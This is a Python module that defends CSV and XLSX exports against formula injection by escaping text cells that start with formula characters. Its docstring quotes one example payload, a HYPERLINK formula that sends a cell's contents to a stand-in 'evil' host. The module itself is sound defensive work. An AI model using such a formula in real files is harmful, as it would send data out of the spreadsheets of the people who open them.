"""Spreadsheet cells that cannot carry formulas (CSV/formula injection, OWASP).

Anyone can title a report `=HYPERLINK("http://evil/?"&A1,"klik")`; an officer opening the
export in Excel or LibreOffice would run it. Every CSV cell that is text starting with `=`,
`+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe (shown by no spreadsheet,
read as "this is text"), and every XLSX text cell is written as a string cell, never a formula.
Numbers, dates and booleans pass unchanged. Used by every CSV and XLSX Netral writes.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """The value to hand csv.writer: text that a spreadsheet would read as a formula is
    prefixed with an apostrophe; everything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for `sheet.append(...)` (normal or write-only sheets): text becomes a string cell
    even when it starts with "=" (openpyxl would otherwise store a formula)."""
    from openpyxl.cell.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row
